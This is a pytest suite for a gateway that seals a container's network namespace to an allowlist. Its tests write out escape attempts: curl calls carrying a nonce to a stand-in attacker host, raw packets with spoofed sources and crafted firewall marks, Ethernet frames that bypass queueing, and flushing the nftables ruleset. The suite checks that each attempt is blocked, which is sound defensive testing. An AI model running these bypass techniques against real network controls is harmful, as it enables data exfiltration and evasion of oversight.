"""`cofferdam job attach`: the network namespace of a container that runs is sealed for a job."""
from __future__ import annotations

import array
import json
import signal
import socket
import subprocess
import time
from pathlib import Path

import pytest
import yaml

from sealable import OUTSIDE, Sealable, kill, start_process_in
from served import wait_until
from test_serve_jobs import api, job, log_of
from world import names
from world.network import Network

ALLOW = ["https://echo.example/", "raw.example:7"]


@pytest.fixture
def sealable(served):
    """A gateway with a control socket whose default job has nothing, and a namespace that it knows nothing of."""
    served.socket = served.state / "control.sock"
    served.start([], {"control": str(served.socket)}, default_job="none")
    made = Sealable(served)
    yield made
    made.close()


@pytest.fixture
def sealable_by_nobody(served):
    """The same; the gateway is an ordinary user after its start."""
    for folder in (served.folder, served.state):
        folder.chmod(0o777)
    served.socket = served.state / "run" / "control.sock"
    serve = {"user": "nobody", "control": str(served.socket), "audit_dir": str(served.state / "jobs"), "ca_dir": str(served.state / "ca")}
    served.start([], serve, default_job="none")
    made = Sealable(served)
    yield made
    made.close()


def policy_file(sealable, allow: list[str]) -> Path:
    file = sealable.served.state / "attached.yaml"
    file.write_text(yaml.safe_dump({"version": 1, "allow": allow}))
    return file


def attach(sealable, *which: str, allow: list[str] | None = None, code: int = 0):
    argv = which or ("--netns", sealable.path)
    return job(sealable.served, "attach", *argv, "--policy", str(policy_file(sealable, ALLOW if allow is None else allow)), "--ca",
               str(sealable.ca), code=code)


def await_record(started: dict, text: str, kind: str) -> dict:
    """The one record of that kind that holds the text."""
    def found():
        return [r for r in log_of(started) if r["type"] == kind and text in json.dumps(r)]
    wait_until(found, lambda: json.dumps(log_of(started))[-4000:])
    return found()[0]


def left(sealable) -> list[bytes]:
    return sealable.witness.frames()


def test_what_reached_the_world_before_goes_through_the_gateway_after(sealable, nonce):
    before = sealable.client(f"curl -sS -m 10 http://echo.example/{nonce}-before; dig +short +time=2 @{names.DNS} echo.example; "
                             f"curl -gsS -m 10 http://[{names.ORIGIN6}]/{nonce}-six")
    assert sealable.world.traces(f"{nonce}-before") and sealable.world.traces(f"{nonce}-six") and names.ORIGIN in before.out, before
    assert left(sealable), "the control: it had a way out"
    made = attach(sealable)
    assert made["sources"] == [f"netns:{sealable.path}"] and Path(made["ca_dir"], "ca.pem").read_text() == made["ca"]
    left(sealable)
    good = sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}-good")
    assert f"/{nonce}-good" in good.out, good
    assert await_record(made, f"{nonce}-good", "http")["decision"]["action"] == "allow"
    raw = sealable.client("printf hello | socat -t2 - TCP:raw.example:7")
    assert raw.out == "hello", raw
    bad = sealable.client(f"curl -sS -m 10 http://echo.example/{nonce}-bad; curl -sS -m 10 https://denied.example/{nonce}-bad; "
                          f"curl -sS -m 10 http://{names.ATTACKER}/{nonce}-bad")
    assert bad.seconds < 20 and await_record(made, f"{nonce}-bad", "http")["decision"]["action"] == "deny", bad
    assert sealable.world.traces(f"{nonce}-bad") == [] and left(sealable) == []
    assert made["id"] in [j["id"] for j in job(sealable.served, "list")["jobs"]]
    ended = job(sealable.served, "stop", made["id"])
    assert ended["lost"] == 0 and ended["requests"] >= 2 and "echo.example" in ended["text"]


def test_names_are_judged_whatever_server_is_asked(sealable, nonce):
    made = attach(sealable)
    left(sealable)
    for server in (names.DNS, names.DNS6, "9.9.9.9", "127.0.0.11", "127.0.0.53", "::1"):
        for transport in ("+notcp", "+tcp"):
            good = sealable.client(f"dig +time=2 +tries=1 {transport} @{server} echo.example")
            assert "198.18." in good.out, good
            bad = sealable.client(f"dig +time=2 +tries=1 {transport} @{server} {nonce}.denied.example")
            assert "REFUSED" in bad.out, bad
    other = sealable.client(f"dig +time=2 +tries=1 -p 5300 @{names.DNS} {nonce}.denied.example")
    assert "REFUSED" in other.out, other
    assert await_record(made, f"{nonce}.denied.example", "dns")["decision"]["action"] == "deny"
    assert sealable.world.traces(nonce) == [] and left(sealable) == []


def test_all_else_is_refused_at_once_and_recorded(sealable, nonce):
    made = attach(sealable)
    left(sealable)
    for protocol, address, port in (("udp", "8.8.8.8", 4433), ("udp", names.ATTACKER6, 4433), ("icmp", "8.8.8.8", 0),
                                    ("udp", OUTSIDE, 4444), ("sctp", "8.8.8.8", 9), ("gre", "8.8.8.8", 0)):
        done = sealable.client(f"/usr/bin/python3 {sealable.world.scripts}/datagram.py {protocol} {address} {port} {nonce}")
        assert done.out.startswith("refused") and float(done.out.split()[1]) < 1, done
        record = await_record(made, address, "connection")
        assert record["decision"]["action"] == "deny" and record["decision"]["reason"] == "protocol_not_allowed", record
    six = sealable.client(f"curl -gsS -m 10 -o /dev/null -w '%{{http_code}}' http://[{names.ATTACKER6}]/{nonce}")
    assert six.out == "403", six
    assert await_record(made, f"[{names.ATTACKER6}]", "http")["decision"]["action"] == "deny"
    assert sealable.world.traces(nonce) == [] and left(sealable) == []


def test_a_mark_frees_nothing(sealable, nonce):
    """A container may send raw packets and set marks (CAP_NET_RAW, Docker's default): those of the gateway's answers, too."""
    attach(sealable)
    left(sealable)
    script = sealable.served.folder / "marked.py"
    script.write_text(f"""import socket, struct
for mark in (0xC0FFE, 0xC0FFF):
    for target, port in (("{names.ATTACKER}", 9), ("{names.DNS}", 53)):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            s = socket.socket(socket.AF_INET, kind); s.settimeout(2)
            s.setsockopt(socket.SOL_SOCKET, 36, mark)
            try: s.connect((target, port)); s.send(b"{nonce}"); s.recv(10)
            except OSError as e: pass
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        raw.setsockopt(socket.SOL_SOCKET, 36, mark)
        body = struct.pack("!4H", port, port, 8 + {len(nonce)}, 0) + b"{nonce}"
        head = struct.pack("!2B3H2BH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, 17, 0, socket.inet_aton("8.8.8.8"), socket.inet_aton(target))
        try: raw.sendto(head + body, (target, 0))
        except OSError as e: pass
for number, packet in ((1, b"\\x03\\x03" + b"\\0" * 6), (58, b"\\x87" + b"\\0" * 7), (58, b"\\x01" + b"\\0" * 7), (6, struct.pack("!2H2L2B3H", 9, 9, 0, 0, 0x50, 4, 0, 0, 0))):
    family, target = (socket.AF_INET6, "{names.ATTACKER6}") if number == 58 else (socket.AF_INET, "{names.ATTACKER}")
    raw = socket.socket(family, socket.SOCK_RAW, number)
    try: raw.sendto(packet + b"{nonce}", (target, 0))
    except OSError as e: pass
print("done")
""")
    done = sealable.client(f"/usr/bin/python3 {script}")
    assert done.out == "done\n", done
    assert sealable.world.traces(nonce) == [] and left(sealable) == []


def test_frames_that_pass_the_ruleset_have_no_wire(sealable, nonce):
    """CAP_NET_RAW writes Ethernet frames, past every hook and queue."""
    script = sealable.served.folder / "frames.py"
    script.write_text(f"""import socket
for bypass in (0, 1):
    for index, name in socket.if_nameindex():
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.setsockopt(263, 20, bypass)  # SOL_PACKET, PACKET_QDISC_BYPASS
        try: s.bind((name, 0)); s.send(b"\\xff" * 12 + b"\\x08\\x00{nonce}"); print("sent", name)
        except OSError as e: print("refused", name)
""")
    before = sealable.client(f"/usr/bin/python3 {script}")
    assert "sent eth0" in before.out and any(nonce.encode() in each for each in left(sealable)), "the control"
    attach(sealable)
    left(sealable)
    done = sealable.client(f"/usr/bin/python3 {script}")
    assert "refused eth0" in done.out and "sent eth0" not in done.out, done
    bound = sealable.client(f"curl -sS -m 5 --interface eth0 http://{names.ATTACKER}/{nonce}")
    assert bound.code != 0 and left(sealable) == [], bound


def test_its_own_servers_are_reached_by_its_own_addresses(sealable, nonce):
    attach(sealable)
    for address in ("127.0.0.1", "10.98.0.2"):
        done = sealable.client(f"printf {nonce} | socat -u - TCP-LISTEN:8123,bind={address} & "
                               f"for n in $(seq 50); do socat -u TCP:{address}:8123 - && break; sleep 0.1; done")
        assert done.out == nonce, done


def test_connections_of_before_are_cut(sealable, nonce):
    client = sealable.served.folder / "before.py"
    client.write_text(f"""import socket, sys
s = socket.create_connection(("{names.RAW}", 7)); s.settimeout(5)
s.send(b"first"); assert s.recv(5) == b"first"
print("connected", flush=True)
sys.stdin.readline()
try: s.send(b"{nonce}"); print("got", s.recv(100))
except OSError as e: print("cut", e)
""")
    run = subprocess.Popen(Network.inside(sealable.namespace, "/usr/bin/python3", str(client)), stdin=subprocess.PIPE,
                           stdout=subprocess.PIPE, text=True)
    assert run.stdout.readline() == "connected\n"
    attach(sealable)
    left(sealable)
    said = run.communicate("\n", timeout=20)[0]
    assert said.startswith("cut") or said == "got b''\n", said
    assert sealable.world.traces(nonce) == [] and left(sealable) == []


def test_a_dead_gateway_leaves_it_closed_until_it_is_attached_again(sealable, nonce):
    attach(sealable)
    sealable.served.stop(signal.SIGKILL)
    left(sealable)
    done = sealable.client(f"curl -sS -m 5 http://{names.ATTACKER}/{nonce}; dig +time=1 +tries=1 @{names.DNS} {nonce}.echo.example; "
                           f"/usr/bin/python3 {sealable.world.scripts}/datagram.py udp 8.8.8.8 443 {nonce}")
    assert sealable.world.traces(nonce) == [] and left(sealable) == [], done
    sealable.served.start()
    made = attach(sealable)
    again = sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}-again")
    assert f"/{nonce}-again" in again.out and await_record(made, f"{nonce}-again", "http"), again


def test_the_end_of_the_job_leaves_it_closed_until_it_is_attached_again(sealable, nonce):
    made = attach(sealable)
    job(sealable.served, "stop", made["id"])
    left(sealable)
    done = sealable.client(f"curl -sS -m 5 http://{names.ATTACKER}/{nonce}; dig +time=1 +tries=1 @{names.DNS} {nonce}.echo.example")
    assert sealable.world.traces(nonce) == [] and left(sealable) == [], done
    again = attach(sealable, allow=["http://echo.example/"])
    assert again["id"] != made["id"] and again["ca"] != made["ca"]
    assert f"/{nonce}" in sealable.client(f"curl -sS -m 10 http://echo.example/{nonce}").out
    assert sealable.served.stop() == 0


def test_a_ruleset_that_somebody_takes_away_is_put_back(sealable, nonce):
    made = attach(sealable)
    whole = sealable.root("nft", "list", "table", "inet", "cofferdam")
    for command in ("flush ruleset", "delete table inet cofferdam", "add rule inet cofferdam judged accept"):
        sealable.root("nft", *command.split())
        wait_until(lambda: sealable.root("nft", "list", "ruleset") == whole, lambda: sealable.root("nft", "list", "ruleset"))
    assert "put back" in await_record(made, "ruleset changed", "alert")["alert"]["message"]
    left(sealable)
    assert f"/{nonce}" in sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}").out
    sealable.client(f"curl -sS -m 5 http://{names.ATTACKER}/{nonce}-no")
    assert sealable.world.traces(f"{nonce}-no") == [] and left(sealable) == []


def test_a_gateway_without_rights_keeps_it_sealed(sealable_by_nobody, nonce):
    """It has CAP_NET_ADMIN and nothing else; what it may do in the namespace, it may by the sockets."""
    sealable = sealable_by_nobody
    made = attach(sealable)
    sealable.root("nft", "flush", "ruleset")
    assert "put back" in await_record(made, "ruleset changed", "alert")["alert"]["message"]
    assert f"/{nonce}" in sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}").out
    assert "REFUSED" in sealable.client(f"dig +time=2 +tries=1 @{names.DNS} {nonce}-no.denied.example").out
    assert job(sealable.served, "stop", made["id"])["requests"] == 1


def test_the_namespace_of_a_process_and_a_source_by_its_path(sealable, nonce):
    process = start_process_in(sealable)
    wait_until(lambda: Path(f"/proc/{process.pid}/ns/net").stat().st_ino == Path(sealable.path).stat().st_ino, lambda: "not inside yet")
    made = attach(sealable, "--pid", str(process.pid))
    kill(process)
    assert made["sources"] == [f"pid:{process.pid}"]
    assert f"/{nonce}" in sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}").out
    job(sealable.served, "stop", made["id"])
    policy = str(policy_file(sealable, ["http://echo.example/"]))
    job(sealable.served, "start", "--source", f"netns:{sealable.path}", "--policy", policy)
    assert f"/{nonce}-path" in sealable.client(f"curl -sS -m 10 http://echo.example/{nonce}-path").out


def test_what_is_wrong_is_said_and_changes_nothing(sealable, nonce):
    def said(*argv: str, code: int = 125, text: str) -> None:
        done = sealable.served.cofferdam("job", "--control", str(sealable.served.socket), "attach", *argv)
        assert done.code == code and text in done.err, done
    said("--netns", "/etc/passwd", text="not that of a network namespace")
    said("--netns", "/run/netns/nobody's", text="No such file")
    said("--pid", "4000000", text="No such file")
    said("--container", "web", text="12 to 64 hexadecimal digits")
    said("--container", "0123456789ab", text="no process runs in a container 0123456789ab")
    said("--netns", f"/run/netns/{sealable.served.network.gw}", text="network namespace of this command")
    said(code=2, text="--container")
    said("--pid", "1", "--netns", sealable.path, code=2, text="--container")
    bad = sealable.served.state / "bad.yaml"
    bad.write_text("version: 1\nallow: [\"https://\"]\n")
    said("--netns", sealable.path, "--policy", str(bad), code=78, text="bad.yaml:2")
    said("--netns", sealable.path, "--allow", "udp://a.example:5", code=78, text="udp://")
    assert "cofferdam" not in sealable.root("nft", "list", "tables")
    control = sealable.client(f"curl -sS -m 10 http://echo.example/{nonce}")
    assert f"/{nonce}" in control.out and left(sealable), "as before"
    attach(sealable)
    said("--netns", sealable.path, text="a gateway has this network namespace already")


def test_the_gateways_own_namespace_is_not_attached(sealable):
    """From elsewhere: the command would say it itself."""
    own = f"/run/netns/{sealable.served.network.gw}"
    done = sealable.world.run([str(sealable.served.binary), "job", "--control", str(sealable.served.socket), "attach", "--netns", own],
                              sealable.served.folder, namespace=sealable.namespace)
    assert done.code in (1, 125) and ("gateway has this network namespace" in done.err or "gateway's own" in done.err), done


def test_it_takes_rights(sealable):
    """Who may ask the gateway, but may not enter the namespace, is told what it takes."""
    served = sealable.served
    for folder in (served.folder, served.state):
        folder.chmod(0o755)
    done = served.world.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", str(served.binary), "job", "--control",
                             str(served.socket), "attach", "--netns", sealable.path], served.folder)
    assert done.code == 125 and "CAP_SYS_ADMIN" in done.err, done
    assert "cofferdam" not in sealable.root("nft", "list", "tables")


def test_the_call_takes_the_right_sockets_alone(sealable):
    served = sealable.served
    for body, word in (({}, "namespace"), ({"namespace": "x" * 257}, "256"), ({"namespace": "x", "sources": ["10.0.0.1"]}, "sources"),
                       ({"namespace": "x", "sources": ["cgroup:/a"]}, "sources"),
                       ({"namespace": "x"}, "sockets"), ({"namespace": "x", "surprise": 1}, "unknown")):
        code, answer = api(served, "POST", "/v1/attach", body)
        assert code == 400 and word in answer["error"], answer
    assert api(served, "GET", "/v1/attach")[0] == 405
    assert "namespace" in api(served, "POST", "/v1/jobs", {"sources": ["10.0.0.1"], "namespace": "x"})[1]["error"]
    for count in (1, 8, 12, 16, 40):
        code, answer = post_with_descriptors(served, {"namespace": "x"}, count)
        assert code == 400 and "sockets" in answer["error"] if count <= 16 else code == 0, (count, answer)
    assert len(job(served, "list")["jobs"]) == 1


def post_with_descriptors(served, body: dict, count: int) -> tuple[int, dict]:
    """Sockets of this process's own with the request; 0 where the gateway hangs up."""
    data = json.dumps(body).encode()
    head = f"POST /v1/attach HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {len(data)}\r\n\r\n".encode()
    with socket.socket(socket.AF_UNIX) as sock, socket.socket() as given:
        sock.settimeout(20)
        sock.connect(str(served.socket))
        rights = array.array("i", [given.fileno()] * count)
        sock.sendmsg([head + data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        answer = b"".join(iter(lambda: sock.recv(65536), b""))
    if not answer:
        return 0, {}
    head, _, rest = answer.partition(b"\r\n\r\n")
    return int(head.split()[1]), json.loads(rest)


def test_the_end_of_a_job_lets_go_of_the_namespace(sealable):
    """No descriptor of the gateway keeps it alive."""
    made = attach(sealable)
    served = sealable.served
    before = len(list(Path(f"/proc/{served.process.pid}/fd").iterdir()))
    job(served, "stop", made["id"])
    wait_until(lambda: len(list(Path(f"/proc/{served.process.pid}/fd").iterdir())) <= before - 12, lambda: "descriptors are left")
    for _ in range(5):
        again = attach(sealable)
        job(served, "stop", again["id"])
    deadline = time.monotonic() + 20
    while len(list(Path(f"/proc/{served.process.pid}/fd").iterdir())) > before - 12:
        assert time.monotonic() < deadline, "descriptors are left"
        time.sleep(0.05)


def test_the_container_of_an_id(sealable, nonce):
    """A process in a control group as Docker calls them, in the hierarchy of processes' own (cgroups(7), v2)."""
    container = f"{nonce[1:]:0<64}"
    tree = next(line.split()[1] for line in Path("/proc/mounts").read_text().splitlines() if line.split()[2] == "cgroup2")
    group = Path(tree) / f"docker-{container}.scope"
    group.mkdir()
    process = start_process_in(sealable)
    try:
        wait_until(lambda: Path(f"/proc/{process.pid}/ns/net").stat().st_ino == Path(sealable.path).stat().st_ino, lambda: "not inside yet")
        (group / "cgroup.procs").write_text(str(process.pid))
        made = attach(sealable, "--container", container[:12])
        assert made["sources"] == [f"container:{container[:12]}"]
        assert f"/{nonce}-in" in sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}-in").out
    finally:
        kill(process)
        wait_until(lambda: (group / "cgroup.procs").read_text() == "", lambda: "processes are left")
        group.rmdir()


def test_a_namespace_without_any_interface(sealable, nonce):
    """As `docker run --network none` makes it: the gateway is its only network."""
    sealable.root("ip", "link", "del", "eth0")
    sealable.root("ip", "link", "set", "lo", "down")
    attach(sealable)
    good = sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}; "
                           f"curl -gsS -m 10 -o /dev/null -w '%{{http_code}}' http://[{names.ATTACKER6}]/")
    assert f"/{nonce}" in good.out and good.out.endswith("403"), good


def test_without_ipv6(sealable, nonce):
    """As in a container of an engine that has it switched off."""
    for part in ("all", "default"):
        sealable.root("sysctl", "-qw", f"net.ipv6.conf.{part}.disable_ipv6=1")
    attach(sealable)
    left(sealable)
    assert f"/{nonce}" in sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}").out
    sealable.root("sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=0")
    done = sealable.client(f"curl -gsS -m 5 http://[{names.ATTACKER6}]/{nonce}-no")
    assert sealable.world.traces(f"{nonce}-no") == [] and left(sealable) == [], done
